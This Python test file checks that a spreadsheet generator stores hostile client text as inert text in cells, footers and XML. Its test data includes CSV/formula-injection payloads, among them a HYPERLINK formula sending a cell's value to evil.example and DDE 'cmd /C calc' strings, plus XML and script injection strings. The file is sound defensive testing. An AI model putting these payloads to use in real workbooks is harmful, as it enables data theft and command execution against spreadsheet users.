"""A client's text is text wherever it goes: never a formula, a name, a title, a code of the footer, or broken XML."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path

import ironcalc
import pytest
from openpyxl import load_workbook
from openpyxl.utils.cell import column_index_from_string, coordinate_from_string

from tests.spreadsheets import (
    cells,
    differences,
    lint,
    recalculated_by_formualizer,
    recalculated_by_libreoffice,
    validate_open_xml,
)
from tests.spreadsheets.workbook_file import WorkbookFile, tag
from tests.workbook_facts import Facts, sample_client
from workbook_templates.cell_xml import read_text
from workbook_templates.fill import workbook

TEXTS = {
    "link": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "apostrophe": "'=1+1",
    "quotes": '"";="\'x',
    "tab": "a\tb\t=1+1",
    "lines": "first\nsecond\n=1+1",
    "returns": "first\r\nsecond\rthird",
    "longest": "W" * 200,
    "longest in two units": "\U0001f4b8" * 200,
    "right to left": "\u202e=1+1\u202c שלום \u200f",
    "family": "👩‍👩‍👧‍👦 Ünïcødé 漢字 é",
    "null": "a\x00b\x01\x0b\x1fc",
    "not characters": "a\ufffe\uffffb",
    "separators": "a\u2028b\u2029c\u0085d\x7fe",
    "no break": "\u00a0padded\u00a0",
    "xml": "</t></is></c></row><script>alert(1)</script>&amp;&#65;<![CDATA[x]]>",
    "escaped": "_x0041_ _x000D_ _x005F_ _X0041_ _x0041",
    "footer codes": '&P of &N &D&"Arial,Bold"&14 A&B && &G',
    "name": "f6251_2025_11",
    "address": "A1",
    "token": "@@7@@ 7310000001",
    "format": "{client} %s {0} %(x)s",
    "number": "1e308",
    "date": "1/2/2025",
    "error": "#REF!",
    "boolean": "TRUE",
    "wildcard": "*?~",
    "comparison": ">5",
    "title": "[x]:y/\\'6251 2025'!A1",
}
ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")  # in XML: shown as the replacement character
COLUMNS = ("employer", "grant_id", "doc_ref")
FILLED = re.compile(r"<v>[^<]*</v>|<v */>|<is>.*?</is>|<oddFooter>[^<]*</oddFooter>| t=\"\w+\"", re.DOTALL)


@pytest.fixture(scope="module", params=TEXTS)
def text(request: pytest.FixtureRequest) -> str:
    """One hostile text."""
    return TEXTS[request.param]


@pytest.fixture(scope="module")
def data(text: str) -> bytes:
    """A workbook with the text in every place for free text."""
    return workbook(sample_client(text, text))


@pytest.fixture(scope="module")
def harmless() -> bytes:
    """The same client with peaceful words."""
    return workbook(sample_client("Jordan Sample", "Northwind"))


def as_shown(text: str) -> str:
    """The text as a cell shows it: trimmed, lines ended alike, what XML forbids replaced."""
    return ILLEGAL.sub("\ufffd", text.strip()).replace("\r\n", "\n").replace("\r", "\n")


def free_text(facts: Facts) -> list[tuple[str, str]]:
    """Where the client's words stand: the name, and three columns of five exercises."""
    columns = [facts.exercise(position, column) for position in range(5) for column in COLUMNS]
    return [facts.places["client_name"], *columns]


def test_text_comes_back_as_text(data: bytes, text: str) -> None:
    """Read by openpyxl: every cell, letter for letter, and none a formula, a number, a date or an error."""
    book = load_workbook(BytesIO(data))
    for sheet, coordinate in free_text(Facts(data)):
        cell = book[sheet][coordinate]
        assert cell.data_type == "s", cell.value
        assert read_text(str(cell.value)) == as_shown(text)


def test_another_reader_finds_the_same_text(data: bytes, text: str, tmp_path: Path) -> None:
    """Read by ironcalc, which evaluates what it takes for a formula."""
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(data)
    model = ironcalc.load_from_xlsx(str(path), "en", "UTC", "en")
    model.evaluate()
    titles = [sheet["name"] for sheet in model.get_worksheets_properties()]
    for sheet, coordinate in free_text(Facts(data)):
        letters, row = coordinate_from_string(coordinate)
        found = model.get_cell_value(titles.index(sheet), row, column_index_from_string(letters))
        assert read_text(str(found)) == as_shown(text)


def test_formulas_names_and_titles_are_those_of_a_harmless_client(data: bytes, harmless: bytes) -> None:
    """Not one character of the client's is in them, nor in rules, links, comments or properties of the file."""
    hostile, peaceful = WorkbookFile(data), WorkbookFile(harmless)
    assert hostile.formulas == peaceful.formulas
    assert hostile.names == peaceful.names
    assert hostile.sheet_parts == peaceful.sheet_parts
    assert list(hostile.parts) == list(peaceful.parts)
    for name, part in hostile.parts.items():
        assert FILLED.sub("", part.decode()) == FILLED.sub("", peaceful.parts[name].decode()), name


def test_text_changes_no_figure(data: bytes, harmless: bytes) -> None:
    """Numbers are those of the harmless client; words differ only where the client's name is quoted."""
    hostile, peaceful = cells(data), cells(harmless)
    different = {place for place in peaceful if hostile[place] != peaceful[place]}
    assert all(isinstance(peaceful[place], str) and "Jordan Sample" in str(peaceful[place]) for place in different)


def test_the_footer_prints_the_name_and_obeys_none_of_its_codes(data: bytes, harmless: bytes, text: str) -> None:
    """`&` stands doubled; without the doubled ones the codes are those of any other client."""
    footers = [
        [element.text or "" for root in WorkbookFile(file).sheets.values() for element in root.iter(tag("oddFooter"))]
        for file in (data, harmless)
    ]
    for hostile, peaceful in zip(*footers, strict=True):
        assert len(hostile.encode("utf-16-le")) // 2 <= 255
        assert _codes(hostile) == _codes(peaceful)
        assert " ".join(as_shown(text).split())[:20] in hostile.replace("&&", "&")


def _codes(footer: str) -> list[str]:
    return re.findall(r'&(?:"[^"]*"|\d+|.)', footer.replace("&&", ""), re.DOTALL)


def test_the_lint_finds_nothing(data: bytes) -> None:
    """Lengths are counted as Excel counts them."""
    assert lint(data) == []


def test_an_engine_recalculates_the_quoted_name_to_the_same(data: bytes, tmp_path: Path) -> None:
    """The heading quotes the name by a formula: its cached words are what the formula gives."""
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(data)
    assert differences(path, "formualizer", recalculated_by_formualizer(path)) == []


def test_ids_of_every_legal_letter_stay_text() -> None:
    """Ids that look like numbers, dates or formulas of a kind; others are refused when they come in."""
    ids = ["007", "1e5", "-1", "--", "1/2", "2024-01-02", ".5", "A1", "TRUE", "R1C1", "e1-E2_x0041_", "/", "x" * 200]
    client = sample_client()
    row = client.exercises[0].model_dump()
    client = type(client)(exercises=[{**row, "exercise_id": each} for each in ids], returns=client.returns)
    data = workbook(client)
    book, facts = load_workbook(BytesIO(data)), Facts(data)
    for position, each in enumerate(ids):
        sheet, coordinate = facts.exercise(position, "exercise_id")
        cell = book[sheet][coordinate]
        assert (cell.data_type, read_text(str(cell.value))) == ("s", each)


def test_a_typed_formula_stays_text_in_the_cells_of_free_text(harmless: bytes) -> None:
    """Their format is text, with Excel's hidden apostrophe, for the day someone edits them."""
    book = load_workbook(BytesIO(harmless))
    for sheet, coordinate in free_text(Facts(harmless)):
        cell = book[sheet][coordinate]
        assert (cell.number_format, cell.quotePrefix) == ("@", True)


@pytest.mark.real_program
def test_real_programs_take_every_hostile_text(tmp_path: Path) -> None:
    """The validator finds nothing, and LibreOffice recalculates the same words and figures."""
    names = ("link", "xml", "null", "escaped", "longest in two units", "footer codes", "separators", "lines")
    paths = [tmp_path / f"{place}.xlsx" for place in range(len(names))]
    for path, name in zip(paths, names, strict=True):
        path.write_bytes(workbook(sample_client(TEXTS[name], TEXTS[name])))
        assert validate_open_xml(path) == []
    for path, values in zip(paths, recalculated_by_libreoffice(paths), strict=True):
        assert differences(path, "libreoffice", values) == []
